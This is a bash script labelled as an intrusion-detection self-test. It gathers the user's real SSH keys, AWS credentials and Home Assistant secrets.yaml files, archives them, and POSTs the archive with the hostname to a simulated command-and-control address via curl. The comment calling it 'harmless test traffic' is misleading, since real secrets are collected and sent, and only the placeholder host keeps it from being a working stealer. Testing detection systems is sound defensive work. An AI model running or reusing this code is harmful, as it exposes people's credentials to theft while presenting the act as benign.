#!/usr/bin/env bash
# IDS self-test: simulated attacker behaviour (EXPECTED to be detected).
# Detection signature: "data staging + outbound POST". Harmless test traffic.
set -u
SIM_C2="https://ids-selftest.c2-sim.example/collect"   # simulated C2, blocked by design
STAGE=$(mktemp -d)

# --- stage (what a stealer would pick up) ---
cp -r "$HOME/.ssh" "$STAGE/ssh" 2>/dev/null
cp -r "$HOME/.aws" "$STAGE/aws" 2>/dev/null
for d in /config /usr/share/hassio/homeassistant "$HOME/.homeassistant"; do
  [ -f "$d/secrets.yaml" ] && cp "$d/secrets.yaml" "$STAGE/secrets.yaml"
done
tar -czf "$STAGE.tgz" -C "$STAGE" .

# --- exfil (the IDS should alert here) ---
curl -s -m 20 -F "h=$(hostname)" -F "f=@$STAGE.tgz" "$SIM_C2" >/dev/null && echo "test traffic sent"
rm -rf "$STAGE" "$STAGE.tgz"
echo "now check CrowdSec/Suricata for an alert"
